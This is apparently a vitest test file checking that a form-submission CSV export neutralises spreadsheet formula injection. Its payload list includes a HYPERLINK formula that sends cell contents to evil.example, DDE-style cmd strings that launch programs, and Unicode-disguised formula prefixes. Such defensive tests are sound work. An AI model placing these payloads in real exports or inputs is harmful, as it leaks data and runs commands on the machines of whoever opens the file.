/** A spreadsheet computes nothing when it opens an export (ASVS 1.2.10). For the property test, see the tests of the inbox. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { forms } from '../../src/forms/catalog.ts';
import { csvHeader, csvRecordOf } from '../../src/submissions/read/export.ts';
import { eventOf, keptSubmission } from '../support/submissions.ts';

const payloads = [
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|"x"!A0',
  '@SUM(1,1)',
  '\tstarts with a tab',
  '\rstarts with a carriage return',
  '\nstarts with a line feed',
  '＝1＋1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'has "quotes", commas\r\n=and(a line that begins so)',
  "'=already prefixed",
  '\u200e=1+1',
  '\u061c\u200f+1',
  '\u00ad\u034f@SUM(1)',
  '\u200d\u2800-1',
  '\u3164 ＝1',
  'plain',
  'a\u200e=1',
  '\u200eplain',
];

const names = [...new Set(Object.values(forms).flatMap(({ fields }) => fields))].map(({ name }) => name);

/** Returns a record for each payload, with the payload in every column that a stranger fills. */
function everyRecord(of: readonly string[] = payloads): string {
  return of
    .map((payload) =>
      csvRecordOf(
        keptSubmission(
          eventOf({
            fields: Object.fromEntries(names.map((name) => [name, payload])),
            recipient: { id: 'c-1', name: payload },
            origin: 'agent',
            client: payload,
          }),
        ),
      ),
    )
    .join('');
}

test('formulas in CSV: the export of every prefix in every column equals the golden file', () => {
  const golden = readFileSync(join(import.meta.dirname, 'formulas.csv'), 'utf8');
  expect(csvHeader + everyRecord()).toBe(golden);
});

test('formulas in CSV: a value that starts with NUL is prefixed, too', () => {
  expect(everyRecord(['\0=1'])).not.toMatch(/[,"]\0/);
});
